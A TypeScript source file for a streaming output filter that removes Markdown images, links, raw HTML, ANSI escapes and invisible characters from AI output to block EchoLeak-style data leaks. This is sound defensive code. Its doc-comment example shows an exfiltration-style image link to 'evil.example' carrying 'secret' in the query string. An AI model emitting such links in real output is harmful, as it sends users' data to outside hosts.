// A filter over streamed output for screens that render Markdown, HTML or terminals (rules 26 to 28, EchoLeak): images and links that could carry data
// out (inline, reference style, autolinks, HTML attributes, bare URLs), raw HTML, ANSI escapes, bidirectional and tag characters. Text is held back only
// while it may still become such a construct, at most 2048 characters; the law is split invariance. Code fences pass but for invisible characters.
import { type LinkRules, refusedUrl } from './link-rules.ts';
import { stripInvisible } from './neutralise.ts';

/** Something that was taken out. */
export interface GuardFinding {
  readonly what: 'image' | 'link' | 'html' | 'invisible';
  /** The URL or kind of character. */
  readonly detail: string;
  readonly why: string;
}
/** What may be shown, and what was taken out for it. */
export interface GuardedText {
  readonly text: string;
  readonly findings: readonly GuardFinding[];
}

const most = 2048;
const escapeSequence =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: escape sequences are what is looked for.
  /^(?:\x1b\[[0-?]*[ -/]*[@-~]|\x9b[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b\n]*(?:\x07|\x1b\\|(?=\n))|\x1b[^[\]])/;
const isJoiner = (code: number): boolean =>
  code === 0x200c || code === 0x200d || (code >= 0xfe00 && code <= 0xfe0f);
type Step = { readonly end: number; readonly text: string } | 'wait' | undefined;

/**
 * The streaming filter.
 *
 * @example
 * ```ts
 * import { OutputGuard } from '@ashlar/tools';
 * const guard = new OutputGuard();
 * guard.push('See ![x](https://evil.example/?q=').text // => 'See '
 * guard.push('secret) now').text // => '[image removed: x] now'
 * ```
 */
export class OutputGuard {
  private readonly rules: LinkRules;
  private buffer = '';
  private lineStart = true;
  private fence = '';
  private findings: GuardFinding[] = [];
  constructor(rules: LinkRules = {}) {
    for (const key of Object.keys(rules))
      if (!['allowedOrigins', 'knownLinks', 'imageOrigins', 'tainted'].includes(key))
        throw new TypeError(`${key}: not a rule`);
    this.rules = rules;
  }
  /** Takes text; answers what may be shown so far. */
  push(text: string): GuardedText {
    this.buffer += text;
    return this.drain(false);
  }
  /** Ends the text. */
  end(): GuardedText {
    return this.drain(true);
  }

  private drain(final: boolean): GuardedText {
    this.findings = [];
    let out = '';
    let i = 0;
    while (i < this.buffer.length) {
      const step = this.step(i, final);
      if (step === 'wait') break;
      const end = step?.end ?? i + 1;
      const text = step?.text ?? (this.buffer[i] as string);
      out += text;
      this.lineStart =
        this.buffer.slice(i, end).endsWith('\n') ||
        (this.lineStart && /^[ \t>]*$/.test(this.buffer.slice(i, end)));
      i = end;
    }
    this.buffer = this.buffer.slice(i);
    return { text: out, findings: this.findings };
  }

  /** What stands at `i`: a construct with its replacement, nothing special, or not yet known. */
  private step(i: number, final: boolean): Step {
    const c = this.buffer[i] as string;
    const code = c.charCodeAt(0);
    if (code < 32 || code >= 127) {
      const invisible = this.invisible(i, final);
      if (invisible !== undefined) return invisible;
    }
    if (this.lineStart && (c === '`' || c === '~')) {
      const fence = this.fenceAt(i, final);
      if (fence !== undefined) return fence;
    }
    if (this.fence !== '') return undefined;
    if (c === '!' || c === '[') return this.bracket(i, final);
    if (c === '<') return this.angle(i, final);
    if (c === 'h' || c === 'H' || c === 'w' || c === 'W' || c === 'f' || c === 'F')
      return this.bare(i, final);
    return undefined;
  }

  private invisible(i: number, final: boolean): Step {
    const c = this.buffer[i] as string;
    if (c === '\n' || c === '\t' || c === '\r') return undefined;
    if (c === '\x1b' || c === '\x9b') {
      const whole = escapeSequence.exec(this.buffer.slice(i, i + most));
      if (!whole && !final && this.buffer.length - i < most) return 'wait';
      this.findings.push({ what: 'invisible', detail: 'ansi', why: 'terminal control' });
      return { end: i + (whole?.[0].length ?? 1), text: '' };
    }
    const high = c.charCodeAt(0) >= 0xd800 && c.charCodeAt(0) < 0xdc00;
    if (high && i + 1 >= this.buffer.length && !final) return 'wait';
    const point = String.fromCodePoint(this.buffer.codePointAt(i) as number);
    // Joiners are text between letters and in emoji: judged with their neighbours.
    if (isJoiner(c.charCodeAt(0))) {
      if (i + 2 >= this.buffer.length && !final) return 'wait';
      const before = this.last;
      const after = this.buffer.codePointAt(i + 1);
      const kept = stripInvisible(
        before + point + (after === undefined ? '' : String.fromCodePoint(after)),
      ).text.includes(point);
      this.last = point;
      if (kept) return { end: i + 1, text: point };
      this.findings.push({
        what: 'invisible',
        detail: `U+${point.codePointAt(0)?.toString(16)}`,
        why: 'invisible',
      });
      return { end: i + 1, text: '' };
    }
    this.last = point;
    if (stripInvisible(point).text !== '')
      return point.length === 2 ? { end: i + 2, text: point } : undefined;
    this.findings.push({
      what: 'invisible',
      detail: `U+${point.codePointAt(0)?.toString(16)}`,
      why: 'invisible',
    });
    return { end: i + point.length, text: '' };
  }
  private last = '';

  private fenceAt(i: number, final: boolean): Step {
    const rest = this.buffer.slice(i, i + most);
    const run = /^(`{3,}|~{3,})/.exec(rest)?.[1];
    if (run === undefined) return rest.length < 3 && /^[`~]+$/.test(rest) && !final ? 'wait' : undefined;
    const line = /^[^\n]*\n/.exec(rest)?.[0];
    if (line === undefined && !final && rest.length < most) return 'wait';
    const whole = line ?? rest;
    const info = whole.slice(run.length).trim();
    if (this.fence === '') {
      if (run[0] === '`' && info.includes('`')) return undefined;
      this.fence = run;
    } else if (run[0] === this.fence[0] && run.length >= this.fence.length && info === '') this.fence = '';
    // The line itself is shown without anything that could be invisible.
    return { end: i + whole.length, text: stripInvisible(whole).text };
  }

  private bracket(i: number, final: boolean): Step {
    const rest = this.buffer.slice(i, i + most);
    const wait = !final && rest.length < most ? ('wait' as const) : undefined;
    const image = rest[0] === '!';
    if (image && rest.length === 1) return wait;
    if (image && rest[1] !== '[') return undefined;
    const open = image ? 1 : 0;
    const close = closing(rest, open);
    if (close === 'wait') return wait;
    if (close === undefined) return undefined;
    const label = rest.slice(open + 1, close);
    const next = rest[close + 1];
    if (next === undefined) return wait;
    if (next === '(') {
      const target = destination(rest, close + 1);
      if (target === 'wait') return wait;
      if (target === undefined) return this.plainLabel(i, close, image, label);
      return { end: i + target.end, text: this.shown(image, label, target.url, rest.slice(0, target.end)) };
    }
    if (next === ':' && !image && this.lineStart) {
      // A reference definition: where it may not point, the references stay plain text.
      const line = /^[^\n]*(?:\n[ \t]*[^\s<][^\n]*)?/.exec(rest.slice(close + 2));
      if (!/\n/.test(rest.slice(close + 2).replace(/^[ \t]*\n?[ \t]*/, '')) && wait) return wait;
      const url = /^\s*<?([^\s>]+)/.exec(rest.slice(close + 2))?.[1];
      if (url === undefined || line === null) return undefined;
      const end = close + 2 + (/^\s*<?[^\s>]+>?[^\n]*/.exec(rest.slice(close + 2))?.[0].length ?? 0);
      const why =
        refusedUrl(url, 'link', this.rules) ??
        refusedUrl(url, 'image', { ...this.rules, imageOrigins: this.rules.imageOrigins ?? [] });
      if (why === undefined) return { end: i + end, text: rest.slice(0, end) };
      this.findings.push({ what: 'link', detail: url.slice(0, 200), why });
      return { end: i + end, text: '' };
    }
    if (image && (next === '[' || /[^(]/.test(next))) return this.plainLabel(i, close, image, label);
    return undefined;
  }
  /** A bracket that is no inline link: an image mark loses its `!`, the rest is read on as text. */
  private plainLabel(i: number, _close: number, image: boolean, label: string): Step {
    if (!image) return undefined;
    this.findings.push({ what: 'image', detail: label.slice(0, 100), why: 'reference style' });
    return { end: i + 1, text: '' };
  }
  private shown(image: boolean, label: string, url: string, whole: string): string {
    const why = refusedUrl(url, image ? 'image' : 'link', this.rules);
    const inner = image ? stripInvisible(label).text.replace(/[<>[\]()!]/g, '') : this.nested(label);
    if (why === undefined)
      return image
        ? stripInvisible(whole).text
        : `[${inner}]${stripInvisible(whole.slice(label.length + 2)).text}`;
    this.findings.push({ what: image ? 'image' : 'link', detail: url.slice(0, 200), why });
    return image ? `[image removed: ${inner}]` : `${inner} [link removed]`;
  }
  private nested(label: string): string {
    const inner = new OutputGuard(this.rules);
    const parts = [inner.push(label), inner.end()];
    for (const part of parts) this.findings.push(...part.findings);
    return parts.map((part) => part.text).join('');
  }

  private angle(i: number, final: boolean): Step {
    const rest = this.buffer.slice(i, i + most);
    const wait = !final && rest.length < most ? ('wait' as const) : undefined;
    if (rest.length === 1) return wait;
    const auto = /^<([a-z][a-z0-9+.-]{1,31}:[^\s<>]*)>/i.exec(rest);
    if (auto) {
      const url = auto[1] as string;
      const why = refusedUrl(url, 'link', this.rules);
      if (why === undefined) return { end: i + auto[0].length, text: auto[0] };
      this.findings.push({ what: 'link', detail: url.slice(0, 200), why });
      return { end: i + auto[0].length, text: '[link removed]' };
    }
    if (!/^<[a-z/!?]/i.test(rest)) return undefined;
    // Raw HTML is shown, never rendered.
    const end = rest.indexOf('>');
    if (end < 0 && /^<[a-z][a-z0-9+.-]{0,31}:?[^\s<>]*$/i.test(rest) && wait) return wait;
    this.findings.push({
      what: 'html',
      detail: rest.slice(0, 40).replace(/[\s>][\s\S]*/, ''),
      why: 'raw HTML',
    });
    return { end: i + 1, text: '&lt;' };
  }

  private bare(i: number, final: boolean): Step {
    const before = i > 0 ? this.buffer[i - 1] : undefined;
    if (before !== undefined && /[A-Za-z0-9]/.test(before) && this.buffer[i]?.toLowerCase() !== 'h')
      return undefined;
    const rest = this.buffer.slice(i, i + most);
    const wait = !final && rest.length < most ? ('wait' as const) : undefined;
    const starts = ['http://', 'https://', 'ftp://', 'www.'];
    const low = rest.slice(0, 8).toLowerCase();
    if (!starts.some((s) => low.startsWith(s)))
      return starts.some((s) => s.startsWith(low)) ? wait : undefined;
    const url = /^[^\s<>"'`|\\^{}[\]()]+/.exec(rest)?.[0] ?? '';
    if (url.length === rest.length && wait) return wait;
    const trimmed = url.replace(/[.,;:!?*_~]+$/, '');
    const why = refusedUrl(trimmed, 'link', this.rules);
    if (why === undefined) return { end: i + trimmed.length, text: trimmed };
    this.findings.push({ what: 'link', detail: trimmed.slice(0, 200), why });
    return { end: i + trimmed.length, text: '[link removed]' };
  }
}

/** Offset of the bracket that closes the one at `open`. */
function closing(text: string, open: number): number | 'wait' | undefined {
  let depth = 0;
  for (let i = open; i < text.length; i++) {
    const c = text[i];
    if (c === '\\') i++;
    else if (c === '[') depth++;
    else if (c === ']' && --depth === 0) return i;
    else if (c === '\n' && /^\n[ \t]*\n/.test(text.slice(i, i + 64))) return undefined;
  }
  return 'wait';
}

/** The destination of an inline link whose `(` is at `open`. */
function destination(
  text: string,
  open: number,
): { readonly url: string; readonly end: number } | 'wait' | undefined {
  let i = open + 1;
  while (i < text.length && /\s/.test(text[i] as string)) i++;
  if (i >= text.length) return 'wait';
  let url = '';
  if (text[i] === '<') {
    const end = text.indexOf('>', i);
    if (end < 0) return 'wait';
    url = text.slice(i + 1, end);
    i = end + 1;
  } else {
    let depth = 0;
    for (; i < text.length; i++) {
      const c = text[i] as string;
      if (c === '\\' && i + 1 < text.length) {
        url += c + text[++i];
        continue;
      }
      if (/\s/.test(c)) break;
      if (c === '(') depth++;
      if (c === ')' && depth-- === 0) return { url, end: i + 1 };
      url += c;
    }
    if (i >= text.length) return 'wait';
  }
  // A title, and the bracket; whatever else stands there, up to the bracket, belongs to a link that some renderer may accept.
  const end = text.indexOf(')', i);
  if (end < 0) return 'wait';
  const rest = text.slice(i, end).trim();
  // Not a title: renderers that are lenient may take all of it for the address.
  return { url: rest === '' || /^["'(]/.test(rest) ? url : url + rest, end: end + 1 };
}

/** A whole text through the guard. */
export function guardOutput(text: string, rules: LinkRules = {}): GuardedText {
  const guard = new OutputGuard(rules);
  const parts = [guard.push(text), guard.end()];
  return { text: parts.map((p) => p.text).join(''), findings: parts.flatMap((p) => p.findings) };
}
